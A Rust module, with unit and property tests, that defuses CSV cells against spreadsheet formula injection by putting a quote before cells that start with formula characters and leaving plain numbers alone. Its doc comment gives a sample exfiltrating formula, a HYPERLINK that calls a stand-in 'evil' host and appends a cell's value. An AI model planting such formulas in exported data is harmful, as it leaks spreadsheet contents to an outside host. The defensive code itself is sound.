//! What a CSV cell holds: the data as received, except that a cell a spreadsheet would run as
//! a formula is defused.
//!
//! Job names, failure reasons and tag values come from whoever can start a job or tag a
//! resource; a value such as `=HYPERLINK("http://evil/?"&A1)` opened in Excel or LibreOffice
//! runs. OWASP's CSV injection guidance: prefix every cell that starts with `=`, `+`, `-`,
//! `@`, a tab or a carriage return with a single quote, which spreadsheets show as text.
//! Control characters are otherwise data, left to the CSV writer's quoting.
//!
//! One exception to the rule: a cell that is a plain number (`-1.5`, a credit in a cost
//! column) is left alone: a number cannot be a formula, and a quote would turn every negative
//! amount into text no sum can add. `--raw` turns the prefix off altogether.

use std::borrow::Cow;

/// The cell as a spreadsheet should receive it: `'` before a would-be formula, otherwise
/// `text` itself.
pub fn defuse(text: &str) -> Cow<'_, str> {
    if starts_like_formula(text) && !is_plain_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Whether a spreadsheet may read `text` as a formula (OWASP's list of first characters).
fn starts_like_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A decimal number as written by people and by `f64`'s `Display`: an optional sign, digits
/// with at most one point, an optional exponent. Not `inf` or `NaN`, which parse as floats
/// but are words.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (mantissa, exponent) = match digits.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['-', '+']).unwrap_or(e))),
        None => (digits, None),
    };
    let (whole, fraction) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let all_digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    !(whole.is_empty() && fraction.is_empty())
        && all_digits(whole)
        && all_digits(fraction)
        && exponent.is_none_or(|e| !e.is_empty() && all_digits(e))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn would_be_formulas_get_a_quote() {
        assert_eq!(
            defuse("=HYPERLINK(\"http://x\",\"y\")"),
            "'=HYPERLINK(\"http://x\",\"y\")"
        );
        for cell in [
            "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "+", "-inf", "-NaN", "-1e",
        ] {
            assert_eq!(defuse(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_left_alone() {
        for cell in [
            "-1.5",
            "-0",
            "+3",
            "-1e-7",
            "-2.5E+10",
            "-.5",
            "-5.",
            "bert-ft",
            "a=b",
            "",
            " =x",
            "ml.p3.2xlarge",
        ] {
            assert!(
                matches!(defuse(cell), Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn a_defused_cell_is_the_cell_or_a_quote_before_it(text in "\\PC*|[=+@-].*") {
            let out = defuse(&text);
            let quoted = format!("'{}", text);
            prop_assert!(out == text || out == quoted);
            // Nothing a spreadsheet runs starts the result, unless it is a number.
            prop_assert!(!starts_like_formula(&out) || is_plain_number(&out));
        }

        #[test]
        fn every_float_as_displayed_is_left_alone(n in proptest::num::f64::NORMAL | proptest::num::f64::ZERO) {
            let text = n.to_string();
            prop_assert_eq!(defuse(&text), text.as_str());
        }
    }
}
